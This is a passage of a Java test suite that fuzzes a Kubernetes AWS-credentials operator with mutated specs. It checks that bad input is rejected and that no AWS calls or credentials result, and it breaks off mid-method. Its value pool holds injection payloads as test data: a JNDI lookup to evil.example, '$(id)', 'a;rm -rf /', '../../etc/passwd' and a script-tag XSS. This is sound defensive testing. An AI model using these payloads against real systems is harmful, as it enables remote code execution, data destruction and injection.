package io.awsauth.operator.reliability;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.awsauth.operator.api.v1alpha1.ApiPatterns;
import io.awsauth.operator.testenv.Aws;
import io.awsauth.operator.testenv.FaultProxy;
import io.awsauth.operator.testenv.Fixtures;
import io.awsauth.operator.testenv.OperatorProcess;
import io.awsauth.operator.testenv.SecretHygiene;
import io.awsauth.operator.testenv.SuiteRequests;
import io.awsauth.operator.testenv.TestEnvironment;
import io.awsauth.operator.testenv.TestEnvironment.AwsAccount;
import io.fabric8.kubernetes.api.model.GenericKubernetesResource;
import io.fabric8.kubernetes.api.model.Secret;
import io.fabric8.kubernetes.api.model.apiextensions.v1.CustomResourceDefinition;
import io.fabric8.kubernetes.api.model.events.v1.Event;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientException;
import io.fabric8.kubernetes.client.dsl.MixedOperation;
import io.fabric8.kubernetes.client.dsl.Resource;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.function.Predicate;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.services.iam.IamClient;

/**
 * Issue 8's bad-input suite. Specs of the four kinds are made by mutating valid ones one field at a
 * time: every field of every kind, found by walking the CRD schemas (a field with no bad-value
 * mutation fails the suite), gets values of the wrong JSON type, values its pattern, enum, length
 * or range refuses (bad ARNs, durations, IDs, injection-like strings: quotes, {@code ${}}, line
 * breaks, {@code ../}, unicode, 300 characters), and the semantic mutations of {@link #catalogue}:
 * oversized policies, huge durations, unknown references, tags AWS refuses. First one spec per
 * field and kind of mutation, then random ones up to {@code aao.suite.specs} (seeded: {@code
 * aao.suite.seed} replays a run).
 *
 * <p>Each spec is created through the generic client, so the API server's schema sees it as sent.
 * It must be rejected with a message naming the field, or accepted and answered by the operator (a
 * process under test, behind {@link FaultProxy}) with a False condition, a reason and an Event;
 * during the corpus no AWS call may be made for it and nothing may be issued (no Secret with keys,
 * no IAM user).
 */
@Reliability
class BadInputSuite {
  static final String LABEL = SuiteRequests.UNDER_TEST;
  static final String CORPUS = "awsauth.io/bad-input-corpus";
  static final String NS = "aao-bad-input";
  static final String API_VERSION = "awsauth.io/v1alpha1";
  static final int SPECS = Integer.getInteger("aao.suite.specs", 300);
  static final long SEED = Long.getLong("aao.suite.seed", System.nanoTime());
  static final ObjectMapper JSON = new ObjectMapper();
  static final JsonNodeFactory F = JsonNodeFactory.instance;

  enum Kind {
    CONFIG("AwsAuthConfig", "awsauthconfigs", false),
    BINDING("StsRoleBinding", "stsrolebindings", false),
    ROLE("VaultAwsRole", "vaultawsroles", false),
    REQUEST("AwsCredentialRequest", "awscredentialrequests", true);

    final String kind;
    final String plural;
    final boolean namespaced;

    Kind(String kind, String plural, boolean namespaced) {
      this.kind = kind;
      this.plural = plural;
      this.namespaced = namespaced;
    }
  }

  /** A field of a kind: {@code spec.a.b}, {@code spec.list[]} (an item), {@code spec.map{}}. */
  record Field(Kind kind, String path, JsonNode schema) {
    /** The name an API server message about this field must contain. */
    String named() {
      if (path.equals("metadata.name")) {
        return "metadata.name";
      }
      String last = path.substring(path.lastIndexOf('.') + 1);
      return last.replace("[]", "").replace("{key}", "").replace("{}", "");
    }

    /** A value rather than a container: a string, number, boolean, or an object of any shape. */
    boolean leaf() {
      String type = schema.path("type").asText("");
      boolean anyShape = schema.path("x-kubernetes-preserve-unknown-fields").asBoolean(false);
      return !type.equals("array") && (!type.equals("object") || anyShape);
    }

    @Override
    public String toString() {
      return kind.kind + " " + path;
    }
  }

  /** A bad value for a field, and what kind of bad it is. */
  record Mutation(Field field, String category, JsonNode value) {}

  /** One generated object. */
  record Spec(int index, Kind kind, String name, Mutation mutation, ObjectNode body) {}

  /** What happened to it. */
  static final class Outcome {
    final Spec spec;
    String rejected; // the API server's message
    String uid;
    String reason; // the condition's reason, once answered
    String conditionStatus;

    Outcome(Spec spec) {
      this.spec = spec;
    }
  }

  @Test
  void everyBadSpecIsRejectedOrAnsweredWithAReasonAndNoAwsCallIsMade() throws Exception {
    System.out.println("bad-input suite: seed " + SEED + " (replay with -Daao.suite.seed=" + SEED);
    TestEnvironment env = TestEnvironment.get();
    KubernetesClient client = env.client();
    String run = Aws.unique("bi").substring(3);
    Fixtures.namespace(client, NS);
    Fixtures.serviceAccount(client, NS, "app");
    Fixtures.serviceAccount(client, NS, "default");
    if (client.pods().inNamespace(NS).withName("app-pod").get() == null) {
      Fixtures.pod(client, NS, "app-pod", "app");
    }
    SecretHygiene hygiene = new SecretHygiene();
    // What an earlier, interrupted run left would be reconciled again by this run's operator (a
    // request left is finalized once that operator runs).
    deleteCorpus(client, null);
    for (Kind kind : Kind.values()) {
      var op = resources(client, kind);
      (kind.namespaced ? op.inNamespace(NS) : op).withLabel(LABEL, "bad-input").delete();
    }

    try (FaultProxy proxy = FaultProxy.start(env.awsEndpoint());
        FaultProxy configProxy = FaultProxy.start(env.awsEndpoint())) {
      // The valid set-up: a config (through `proxy`), roles of every shape the corpus mutates, a
      // request that is issued (the proof that this run can see issuance).
      AwsAccount operatorUser = Aws.operatorUser(env, Aws.unique("bad-input-root"));
      Fixtures.credentialsSecret(client, NS, "operator", operatorUser);
      // AwsAuthConfig mutants get an identity of their own, on a proxy of their own, so that a call
      // made for one of them is told apart from the valid config's periodic verification.
      AwsAccount mutantUser = Aws.operatorUser(env, Aws.unique("bad-input-cfg"));
      Fixtures.credentialsSecret(client, NS, "operator-cfg", mutantUser);
      Fixtures.credentialsSecret(client, NS, "admin-b", env.accountB());
      String config = "bad-input-" + run;
      var valid = Fixtures.authConfig(config, NS, "operator", proxy.url());
      valid.getMetadata().setLabels(Map.of(LABEL, "bad-input"));
      client.resource(valid).create();

      Bases bases = new Bases(config, run, configProxy.url(), pem());
      for (ObjectNode role : bases.roles.values()) {
        create(client, Kind.ROLE, role.deepCopy());
      }
      Map<String, String> props = new LinkedHashMap<>();
      for (String c :
          List.of("awscredentialrequest", "vaultawsrole", "awsauthconfig", "stsrolebinding")) {
        props.put("quarkus.operator-sdk.controllers." + c + ".selector", LABEL);
      }
      props.put("aao.orphan-sweep.interval", "0s");
      try (OperatorProcess operator = OperatorProcess.start(env, "bad-input-" + run, props)) {
        try {
          runCorpus(env, client, run, bases, proxy, configProxy, operatorUser, hygiene);
        } finally {
          // Cleaned up while the operator runs: iam_user requests carry its finalizer.
          deleteCorpus(client, run);
          resources(client, Kind.REQUEST).inNamespace(NS).withName("control-" + run).delete();
          await()
              .atMost(Duration.ofMinutes(3))
              .until(
                  () ->
                      SuiteRequests.underTest(client, NS).stream()
                          .noneMatch(r -> r.getMetadata().getName().endsWith("-" + run)));
          for (String role : bases.roles.keySet()) {
            resources(client, Kind.ROLE).withName(role).delete();
          }
          client.resource(valid).delete();
        }
        SecretHygiene.Report scan = hygiene.scan(client, List.of(operator.log()));
        System.out.println(scan.summary());
        scan.assertClean();
      }
    }
  }

  /** Deletes the corpus of run {@code run} (null: of every run). */
  static void deleteCorpus(KubernetesClient client, String run) {
    for (Kind kind : Kind.values()) {
      var op = resources(client, kind);
      var scoped = kind.namespaced ? op.inNamespace(NS) : op;
      (run == null ? scoped.withLabel(CORPUS) : scoped.withLabel(CORPUS, run)).delete();
    }
  }

  private static void runCorpus(
      TestEnvironment env,
      KubernetesClient client,
      String run,
      Bases bases,
      FaultProxy proxy,
      FaultProxy configProxy,
      AwsAccount operatorUser,
      SecretHygiene hygiene)
      throws Exception {
    await()
        .atMost(Duration.ofMinutes(3))
        .pollInterval(Duration.ofSeconds(1))
        .until(() -> bases.roles.keySet().stream().allMatch(n -> ready(client, Kind.ROLE, n)));
    ObjectNode control = bases.requests.get("session").deepCopy();
    ((ObjectNode) control.get("metadata")).put("name", "control-" + run);
    ((ObjectNode) control.get("spec")).put("secretName", "control-" + run);
    create(client, Kind.REQUEST, control);
    await()
        .atMost(Duration.ofMinutes(2))
        .pollInterval(Duration.ofSeconds(1))
        .until(() -> ready(client, Kind.REQUEST, "control-" + run));
    Secret controlSecret = client.secrets().inNamespace(NS).withName("control-" + run).get();
    assertThat(controlSecret.getData()).containsKey("AWS_ACCESS_KEY_ID");
    hygiene.record(controlSecret);

    // The corpus.
    List<Spec> corpus = generate(bases, run);
    Set<String> usersBefore = iamUsers(env);
    proxy.reset();
    configProxy.reset();
    Instant start = Instant.now();
    List<Outcome> outcomes = new ArrayList<>();
    for (Spec spec : corpus) {
      outcomes.add(submit(client, spec));
    }
    List<Outcome> accepted = outcomes.stream().filter(o -> o.rejected == null).toList();
    Instant deadline = Instant.now().plus(Duration.ofMinutes(3));
    while (Instant.now().isBefore(deadline) && !answered(client, accepted)) {
      Thread.sleep(2000);
    }
    Duration took = Duration.between(start, Instant.now());
    Map<String, Set<String>> events = eventReasonsByUid(client);
    Map<String, Long> calls = new TreeMap<>(proxy.counts());
    long periodic =
        proxy.countSignedBy("forwarded", "GetCallerIdentity", operatorUser.accessKeyId());
    long badCalls =
        calls.values().stream().mapToLong(Long::longValue).sum()
            - periodic
            + configProxy.counts().values().stream().mapToLong(Long::longValue).sum();
    Set<String> newUsers = iamUsers(env);
    newUsers.removeAll(usersBefore);
    List<String> issued = issuedSecrets(client, run);

    Report report = new Report(corpus, outcomes, events);
    report.print(took, calls, configProxy.counts(), periodic, badCalls, newUsers, issued);

    assertThat(report.rejectedWithoutField).as("rejections not naming the field").isEmpty();
    assertThat(report.acceptedAsValid).as("bad specs that became Ready").isEmpty();
    assertThat(report.silent).as("bad specs accepted with no condition").isEmpty();
    assertThat(report.noEvent).as("answered without an Event").isEmpty();
    assertThat(badCalls).as("AWS calls made during the bad corpus").isZero();
    assertThat(newUsers).as("IAM users created during the bad corpus").isEmpty();
    assertThat(issued).as("Secrets with keys written for bad requests").isEmpty();
  }

  // --- the valid specs the corpus mutates ---------------------------------------------------

  /** Valid objects (as JSON) of each kind; together they set every field of the schemas. */
  static final class Bases {
    final Map<String, ObjectNode> configs = new LinkedHashMap<>();
    final Map<String, ObjectNode> bindings = new LinkedHashMap<>();
    final Map<String, ObjectNode> roles = new LinkedHashMap<>();
    final Map<String, ObjectNode> requests = new LinkedHashMap<>();
    final Map<String, String> roleOf = new LinkedHashMap<>();

    Bases(String config, String run, String configEndpoint, String pem) throws IOException {
      configs.put(
          "full",
          object(
              Kind.CONFIG,
              "cfg",
              """
              {"region": "us-east-1",
               "endpoints": {"iam": "%1$s", "sts": "%1$s", "ec2": "%1$s"},
               "credentials": {"source": "Secret",
                               "secretRef": {"namespace": "%2$s", "name": "operator-cfg"}},
               "maxRetries": 3, "usernameTemplate": "aao-{{role}}-{{uid}}",
               "iamServerIdHeaderValue": "vault.example.com",
               "identityDocumentCertificates": %3$s,
               "rootRotation": {"period": "720h"}}
              """
                  .formatted(configEndpoint, NS, JSON.writeValueAsString(pem))));
      bindings.put(
          "managed",
          object(
              Kind.BINDING,
              "srb",
              """
              {"accountId": "222222222222",
               "roleArn": "arn:aws:iam::222222222222:role/bad-input-target",
               "externalId": "bad-input-ext", "authConfigRef": "%s",
               "trust": {"manage": true, "adminSecretRef": {"namespace": "%s", "name": "admin-b"}}}
              """
                  .formatted(config, NS)));
      String a = "arn:aws:iam::111111111111:";
      String policy =
          "{\"Version\": \"2012-10-17\", \"Statement\": [{\"Effect\": \"Allow\","
              + " \"Action\": \"ec2:Describe*\", \"Resource\": \"*\"}]}";
      roles.put(
          "bi-user-" + run,
          object(
              Kind.ROLE,
              "bi-user-" + run,
              """
              {"credentialType": "iam_user", "policyDocument": %s,
               "policyArns": ["arn:aws:iam::aws:policy/ReadOnlyAccess"],
               "iamGroups": ["bad-input-group"], "iamTags": {"team": "a"}, "userPath": "/aao/",
               "permissionsBoundaryArn": "%spolicy/boundary", "defaultTtl": "1h", "maxTtl": "2h",
               "authConfigRef": "%s", "authType": "kubernetes",
               "bindings": {"namespaces": ["%s"], "serviceAccounts": ["%4$s/app"]}}
              """
                  .formatted(policy, a, config, NS)));
      roles.put(
          "bi-assume-" + run,
          object(
              Kind.ROLE,
              "bi-assume-" + run,
              """
              {"credentialType": "assumed_role", "policyDocument": %s,
               "roleArns": ["%srole/bad-input-a", "%2$srole/bad-input-b"],
               "externalId": "bad-input-ext", "sessionTags": {"team": "a"},
               "transitiveTagKeys": ["team"],
               "authConfigRef": "%s", "bindings": {"namespaces": ["%s"]}}
              """
                  .formatted(policy, a, config, NS)));
      roles.put(
          "bi-iam-" + run,
          object(
              Kind.ROLE,
              "bi-iam-" + run,
              """
              {"credentialType": "session_token", "authType": "iam", "authConfigRef": "%s",
               "bindings": {"iamPrincipalArns": ["%suser/bad-input-*"],
                            "accountIds": ["111111111111"]}}
              """
                  .formatted(config, a)));
      roles.put(
          "bi-ec2-" + run,
          object(
              Kind.ROLE,
              "bi-ec2-" + run,
              """
              {"credentialType": "session_token", "authType": "ec2", "authConfigRef": "%s",
               "bindings": {"regions": ["us-east-1"], "vpcIds": ["vpc-0123456789abcdef0"],
                 "subnetIds": ["subnet-0123456789abcdef0"], "amiIds": ["ami-0123456789abcdef0"],
                 "ec2InstanceIds": ["i-0123456789abcdef0"],
                 "iamInstanceProfileArns": ["%sinstance-profile/bad-input*"],
                 "iamRoleArns": ["%2$srole/bad-input*"]}}
              """
                  .formatted(config, a)));
      roles.put(
          "bi-session-" + run,
          object(
              Kind.ROLE,
              "bi-session-" + run,
              """
              {"credentialType": "session_token", "authConfigRef": "%s",
               "bindings": {"namespaces": ["%s"], "serviceAccounts": ["%2$s/app"]}}
              """
                  .formatted(config, NS)));
      requests.put(
          "session",
          object(
              Kind.REQUEST,
              "req",
              """
              {"roleRef": "bi-session-%s", "ttl": "1h", "renewBefore": "20m",
               "roleSessionName": "bad-input",
               "identity": {"serviceAccountName": "app", "podName": "app-pod"},
               "secretName": "req", "mountPath": "/var/run/secrets/app",
               "restartPolicy": "OnRotation",
               "rolloutRestartTargets": [{"kind": "Deployment", "name": "app"}]}
              """
                  .formatted(run)));
      requests.put(
          "assume",
          object(
              Kind.REQUEST,
              "req",
              """
              {"roleRef": "bi-assume-%s", "roleArn": "arn:aws:iam::111111111111:role/bad-input-a",
               "identity": {"serviceAccountName": "default"}, "secretName": "req",
               "rolloutRestartTargets": [{"kind": "StatefulSet", "matchLabels": {"app": "web"}}]}
              """
                  .formatted(run)));
      requests.put(
          "iam",
          object(
              Kind.REQUEST,
              "req",
              """
              {"roleRef": "bi-iam-%s", "identity": {"iamProofSecretRef": {"name": "proof"}},
               "secretName": "req"}
              """
                  .formatted(run)));
      requests.put(
          "ec2",
          object(
              Kind.REQUEST,
              "req",
              """
              {"roleRef": "bi-ec2-%s", "identity": {"identityDocumentSecretRef": {"name": "doc"}},
               "secretName": "req"}
              """
                  .formatted(run)));
    }

    Map<String, ObjectNode> of(Kind kind) {
      return switch (kind) {
        case CONFIG -> configs;
        case BINDING -> bindings;
        case ROLE -> roles;
        case REQUEST -> requests;
      };
    }

    /** The first base of {@code kind} that sets {@code path}. */
    ObjectNode baseFor(Field field) {
      return of(field.kind()).values().stream()
          .filter(b -> at(b, field.path()) != null)
          .findFirst()
          .orElse(null);
    }
  }

  static ObjectNode object(Kind kind, String name, String spec) throws IOException {
    ObjectNode o = F.objectNode();
    o.put("apiVersion", API_VERSION);
    o.put("kind", kind.kind);
    ObjectNode meta = o.putObject("metadata");
    meta.put("name", name);
    if (kind.namespaced) {
      meta.put("namespace", NS);
    }
    meta.putObject("labels").put(LABEL, "bad-input");
    o.set("spec", JSON.readTree(spec));
    return o;
  }

  static String pem() throws IOException {
    try (InputStream in =
        BadInputSuite.class.getResourceAsStream("/reliability/identity-document-cert.pem")) {
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  // --- the schema walk ----------------------------------------------------------------------

  static JsonNode schema(Kind kind) throws IOException {
    Path generated = TestEnvironment.repoRoot().resolve("operator/target/crds");
    Path dir =
        Files.isDirectory(generated) ? generated : TestEnvironment.repoRoot().resolve("crds");
    try (InputStream in = Files.newInputStream(dir.resolve(kind.plural + ".awsauth.io-v1.yml"))) {
      CustomResourceDefinition crd = Serialization.unmarshal(in, CustomResourceDefinition.class);
      return JSON.valueToTree(crd.getSpec().getVersions().get(0).getSchema().getOpenAPIV3Schema());
    }
  }

  /** Every field of {@code kind}'s spec (and metadata.name), from its CRD schema. */
  static List<Field> fields(Kind kind) throws IOException {
    List<Field> out = new ArrayList<>();
    ObjectNode name = F.objectNode();
    name.put("type", "string");
    name.put("pattern", ApiPatterns.K8S_NAME);
    name.put("maxLength", 253);
    out.add(new Field(kind, "metadata.name", name));
    walk(kind, "spec", schema(kind).path("properties").path("spec"), out);
    return out;
  }

  private static void walk(Kind kind, String path, JsonNode node, List<Field> out) {
    Iterator<Map.Entry<String, JsonNode>> it = node.path("properties").fields();
    while (it.hasNext()) {
      Map.Entry<String, JsonNode> p = it.next();
      String child = path + "." + p.getKey();
      out.add(new Field(kind, child, p.getValue()));
      descend(kind, child, p.getValue(), out);
    }
  }

  private static void descend(Kind kind, String path, JsonNode node, List<Field> out) {
    String type = node.path("type").asText("");
    if (type.equals("object") && node.has("properties")) {
      walk(kind, path, node, out);
    } else if (type.equals("array")) {
      out.add(new Field(kind, path + "[]", node.path("items")));
      descend(kind, path + "[]", node.path("items"), out);
    } else if (type.equals("object") && node.has("additionalProperties")) {
      out.add(new Field(kind, path + "{}", node.path("additionalProperties")));
      ObjectNode key = F.objectNode();
      key.put("type", "string");
      out.add(new Field(kind, path + "{key}", key));
    }
  }

  // --- paths into a JSON object -------------------------------------------------------------

  /** The value at {@code path} ({@code a.b[].c}, {@code a.m{}}, {@code a.m{key}}), or null. */
  static JsonNode at(JsonNode root, String path) {
    JsonNode node = root;
    for (String seg : path.split("\\.")) {
      String name = seg.replaceAll("(\\[\\]|\\{\\}|\\{key\\})$", "");
      node = node == null ? null : node.get(name);
      if (node == null) {
        return null;
      }
      if (seg.endsWith("[]") || seg.endsWith("{}") || seg.endsWith("{key}")) {
        Iterator<JsonNode> first = node.elements();
        node = first.hasNext() ? first.next() : null;
      }
    }
    return node;
  }

  /** Sets {@code value} at {@code path}: a list or map becomes a single item or entry. */
  static void put(ObjectNode root, String path, JsonNode value) {
    String[] segs = path.split("\\.");
    JsonNode node = root;
    for (int i = 0; i < segs.length - 1; i++) {
      String seg = segs[i];
      if (seg.endsWith("[]")) {
        node = node.get(seg.substring(0, seg.length() - 2)).get(0);
      } else {
        node = node.get(seg);
      }
    }
    ObjectNode parent = (ObjectNode) node;
    String last = segs[segs.length - 1];
    if (last.endsWith("[]")) {
      parent.putArray(last.substring(0, last.length() - 2)).add(value);
    } else if (last.endsWith("{key}")) {
      parent.putObject(last.substring(0, last.length() - 5)).put(value.asText(), "v");
    } else if (last.endsWith("{}")) {
      parent.putObject(last.substring(0, last.length() - 2)).set("k", value);
    } else {
      parent.set(last, value);
    }
  }

  // --- the mutations ------------------------------------------------------------------------

  /** Strings that are bad for many fields; each field uses those its own rules refuse. */
  static final List<String> POOL =
      List.of(
          "\"quoted\"",
          "'single'",
          "${jndi:ldap://evil.example/a}",
          "$(id)",
          "`id`",
          "a\nb",
          "value\r\nX-Injected: 1",
          "../../etc/passwd",
          "a/../b",
          "%2e%2e%2f",
          "ünïcødé-名前",
          "emoji-\uD83D\uDE00",
          "nul\u0000byte",
          "<script>alert(1)</script>",
          "a;rm -rf /",
          "{{uid}}",
          "",
          " ",
          "UPPER-Case",
          "a b",
          "*",
          "x".repeat(300),
          "-leading-dash",
          // bad ARNs
          "arn:aws:iam::12345:role/x",
          "arn:aws:iam::111111111111:user/not-a-role",
          "arn:aws:s3:::bucket",
          "arn:aws:iam::111111111111:role/",
          "arn:aws:iam::111111111111:role/a*b",
          "arn:aws:iam::*:role/x",
          "arn:aws:iam::111111111111:*",
          "arn:aws:iam::111111111111:role/x y",
          "arn:foo:iam::111111111111:role/x",
          "role/x",
          "arn:aws:iam::111111111111:role/" + "r".repeat(600),
          "arn:aws:iam::aws:policy/../../x",
          // bad durations
          "-5m",
          "1d",
          "1.5h",
          "15",
          "1h-1m",
          "PT1H",
          "1H",
          "1h 30m",
          "0x10m",
          "1e3s",
          // bad account IDs, regions, URLs, EC2 IDs
          "12345678901",
          "1234567890123",
          "abcdefghijkl",
          "111111111111 ",
          "US-EAST-1",
          "us_east_1",
          "mars",
          "ftp://example.com",
          "http://",
          "http://a b",
          "javascript:alert(1)",
          "http://example.com/?q=1",
          "vpc-XYZ",
          "subnet-1",
          "ami-",
          "i-zz",
          "/no-trailing-slash",
          "no-leading-slash/");

  /**
   * Bad values that the schema's own rules do not express, keyed by {@code Kind path}: unknown
   * references, oversized policies, huge durations, inconsistent values, tags AWS refuses.
   */
  static Map<String, List<Mutation>> catalogue(List<Field> all) {
    Map<String, Field> byKey =
        all.stream().collect(Collectors.toMap(Field::toString, f -> f, (x, y) -> x));
    Map<String, List<Mutation>> c = new LinkedHashMap<>();
    String huge = "99999999999999999999h";
    // unknown references
    add(c, byKey, "AwsAuthConfig spec.credentials.secretRef.name", "unknown reference", "no-such");
    add(
        c,
        byKey,
        "AwsAuthConfig spec.credentials.secretRef.namespace",
        "unknown reference",
        "gone");
    add(c, byKey, "StsRoleBinding spec.authConfigRef", "unknown reference", "no-such-config");
    add(c, byKey, "StsRoleBinding spec.trust.adminSecretRef.name", "unknown reference", "no-such");
    add(
        c,
        byKey,
        "StsRoleBinding spec.trust.adminSecretRef.namespace",
        "unknown reference",
        "gone");
    add(c, byKey, "VaultAwsRole spec.authConfigRef", "unknown reference", "no-such-config");
    add(c, byKey, "AwsCredentialRequest spec.roleRef", "unknown reference", "no-such-role");
    add(
        c,
        byKey,
        "AwsCredentialRequest spec.identity.serviceAccountName",
        "unknown reference",
        "ghost");
    add(c, byKey, "AwsCredentialRequest spec.identity.podName", "unknown reference", "ghost-pod");
    add(
        c,
        byKey,
        "AwsCredentialRequest spec.identity.iamProofSecretRef.name",
        "unknown reference",
        "no-such-proof");
    add(
        c,
        byKey,
        "AwsCredentialRequest spec.identity.identityDocumentSecretRef.name",
        "unknown reference",
        "no-such-document");
    add(
        c,
        byKey,
        "AwsCredentialRequest spec.roleArn",
        "unknown reference",
        "arn:aws:iam::111111111111:role/not-in-the-role");
    // durations: huge (past a long), zero where nothing can last zero, inconsistent
    for (String d :
        List.of(
            "AwsAuthConfig spec.rootRotation.period",
            "VaultAwsRole spec.defaultTtl",
            "VaultAwsRole spec.maxTtl",
            "AwsCredentialRequest spec.ttl",
            "AwsCredentialRequest spec.renewBefore")) {
      add(c, byKey, d, "huge duration", huge);
    }
    add(c, byKey, "AwsAuthConfig spec.rootRotation.period", "zero duration", "0s");
    add(c, byKey, "VaultAwsRole spec.maxTtl", "zero duration", "0s");
    add(c, byKey, "AwsCredentialRequest spec.ttl", "zero duration", "0s");
    add(c, byKey, "VaultAwsRole spec.defaultTtl", "inconsistent", "3h");
    add(c, byKey, "VaultAwsRole spec.maxTtl", "inconsistent", "30m");
    add(c, byKey, "AwsCredentialRequest spec.renewBefore", "inconsistent", "2h");
    // oversized policy
    ArrayNode actions = F.arrayNode();
    for (int i = 0; i < 150; i++) {
      actions.add("ec2:DescribeSomethingNumber" + i);
    }
    ObjectNode big = F.objectNode();
    big.put("Version", "2012-10-17");
    big.putArray("Statement")
        .addObject()
        .put("Effect", "Allow")
        .put("Resource", "*")
        .set("Action", actions);
    c.computeIfAbsent("VaultAwsRole spec.policyDocument", k -> new ArrayList<>())
        .add(new Mutation(byKey.get("VaultAwsRole spec.policyDocument"), "oversized policy", big));
    // tags: AWS accepts letters, digits, spaces and _.:/=+-@ (keys 1-128, values 0-256), no aws:
    Predicate<String> tag = s -> s.matches("^[\\p{L}\\p{Z}\\p{N}_.:/=+\\-@]*$");
    for (String t : List.of("VaultAwsRole spec.iamTags", "VaultAwsRole spec.sessionTags")) {
      for (String s : POOL) {
        if (!tag.test(s) || s.isEmpty()) {
          add(c, byKey, t + "{key}", "injection", s);
        }
        if (!tag.test(s)) {
          add(c, byKey, t + "{}", "injection", s);
        }
      }
      add(c, byKey, t + "{key}", "reserved", "aws:created-by");
      add(c, byKey, t + "{key}", "too long", "k".repeat(129));
      add(c, byKey, t + "{}", "too long", "v".repeat(257));
    }
    // free text: a header value cannot hold control characters; certificates must be PEM
    for (String s : POOL) {
      if (s.chars().anyMatch(ch -> ch < 0x20 || ch > 0x7e)) {
        add(c, byKey, "AwsAuthConfig spec.iamServerIdHeaderValue", "injection", s);
      }
      if (!s.isBlank()) {
        add(c, byKey, "AwsAuthConfig spec.identityDocumentCertificates", "not a certificate", s);
      }
    }
    add(
        c,
        byKey,
        "AwsAuthConfig spec.identityDocumentCertificates",
        "not a certificate",
        "-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydGlmaWNhdGU=\n-----END CERTIFICATE-----\n");
    // label keys (rollout restart targets): [prefix/]name, the name 1-63 alphanumerics and -_.
    String labelKey = "AwsCredentialRequest spec.rolloutRestartTargets[].matchLabels{key}";
    add(c, byKey, labelKey, "injection", "app name; rm -rf /");
    add(c, byKey, labelKey, "too long", "k".repeat(64));
    add(c, byKey, labelKey, "pattern", "-leading-dash");
    add(c, byKey, labelKey, "pattern", "UPPER_prefix.example/app");
    add(c, byKey, "AwsAuthConfig spec.usernameTemplate", "inconsistent", "aao-{{role}}");
    add(
        c,
        byKey,
        "StsRoleBinding spec.roleArn",
        "inconsistent",
        "arn:aws:iam::111111111111:role/other-account");
    return c;
  }

  private static void add(
      Map<String, List<Mutation>> c,
      Map<String, Field> byKey,
      String key,
      String category,
      String value) {
    Field f = byKey.get(key);
    if (f == null) {
      throw new AssertionError("the catalogue names " + key + ", which the schema does not have");
    }
    c.computeIfAbsent(key, k -> new ArrayList<>())
        .add(new Mutation(f, category, F.textNode(value)));
  }

  /** The mutations the field's schema implies, and those of the catalogue. */
  static List<Mutation> mutations(Field f, Map<String, List<Mutation>> catalogue, Random random) {
    List<Mutation> out = new ArrayList<>();
    JsonNode s = f.schema();
    String type = s.path("type").asText("");
    boolean preserve = s.path("x-kubernetes-preserve-unknown-fields").asBoolean(false);
    if (!f.path().endsWith("{key}") && !f.path().equals("metadata.name")) {
      List<JsonNode> wrong =
          switch (type) {
            case "string" -> List.of(F.numberNode(12345), F.booleanNode(true), array("x"));
            case "integer" -> List.of(F.textNode("3"), F.numberNode(1.5), F.booleanNode(true));
            case "boolean" -> List.of(F.textNode("yes"), F.numberNode(1), array("true"));
            case "array" -> List.of(F.textNode("x"), F.numberNode(7));
            default -> List.of(F.textNode("x"), F.numberNode(7), array("x"));
          };
      out.add(new Mutation(f, "wrong type", wrong.get(random.nextInt(wrong.size()))));
    }
    if (s.has("pattern")) {
      java.util.regex.Pattern p = java.util.regex.Pattern.compile(s.get("pattern").asText());
      List<String> bad = POOL.stream().filter(v -> !p.matcher(v).find()).toList();
      out.add(new Mutation(f, "pattern", F.textNode(bad.get(random.nextInt(bad.size())))));
    }
    if (s.has("enum")) {
      out.add(new Mutation(f, "enum", F.textNode(random.nextBoolean() ? "Bogus" : "iam_user;x")));
    }
    if (s.has("maxLength")) {
      out.add(new Mutation(f, "too long", F.textNode("a".repeat(s.get("maxLength").asInt() + 1))));
    }
    if (s.has("minLength") && s.get("minLength").asInt() > 1) {
      out.add(new Mutation(f, "too short", F.textNode("a".repeat(s.get("minLength").asInt() - 1))));
    }
    if (s.has("maximum")) {
      out.add(
          new Mutation(
              f,
              "range",
              F.numberNode(random.nextBoolean() ? s.get("maximum").asLong() + 1 : 1L << 40)));
    }
    if (s.has("minimum")) {
      out.add(new Mutation(f, "range", F.numberNode(s.get("minimum").asLong() - 1)));
    }
    if (s.has("maxItems")) {
      out.add(new Mutation(f, "too many", F.nullNode())); // filled from the base's item
    }
    out.addAll(catalogue.getOrDefault(f.toString(), List.of()));
    if (preserve && out.size() < 2) {
      throw new AssertionError(f + " (an object of any shape) has no semantic mutation");
    }
    return out;
  }

  private static ArrayNode array(String item) {
    return F.arrayNode().add(item);
  }

  /** A mutated copy of the field's base; the name and the Secret name are the spec's own. */
  static Spec apply(int index, Bases bases, Mutation m, String run) {
    Field f = m.field();
    ObjectNode body = bases.baseFor(f).deepCopy();
    String name = "bi" + index + "-" + run;
    ((ObjectNode) body.get("metadata")).put("name", name);
    ObjectNode labels = (ObjectNode) body.get("metadata").get("labels");
    labels.put(CORPUS, run);
    ObjectNode spec = (ObjectNode) body.get("spec");
    if (spec.has("secretName")) {
      spec.put("secretName", name);
    }
    if (f.path().equals("metadata.name")) {
      ((ObjectNode) body.get("metadata")).set("name", m.value());
    } else if (m.category().equals("too many")) {
      JsonNode item = at(body, f.path() + "[]");
      ArrayNode many = F.arrayNode();
      for (int i = 0; i <= f.schema().get("maxItems").asInt(); i++) {
        many.add(item.deepCopy());
      }
      put(body, f.path(), many);
    } else {
      put(body, f.path(), m.value());
    }
    return new Spec(index, f.kind(), name, m, body);
  }

  /** First every mutation of every field once, then random ones up to {@link #SPECS}. */
  static List<Spec> generate(Bases bases, String run) throws IOException {
    Random random = new Random(SEED);
    List<Field> all = new ArrayList<>();
